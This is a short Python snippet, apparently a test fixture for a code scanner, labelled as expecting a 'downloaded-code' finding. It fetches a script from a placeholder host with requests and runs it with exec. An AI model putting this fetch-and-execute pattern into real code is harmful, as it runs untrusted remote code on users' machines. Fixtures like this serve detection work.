# expect: 4 downloaded-code
import requests, types
m = types.ModuleType('m')
exec(requests.get('https://h.invalid/m.py').text, m.__dict__)
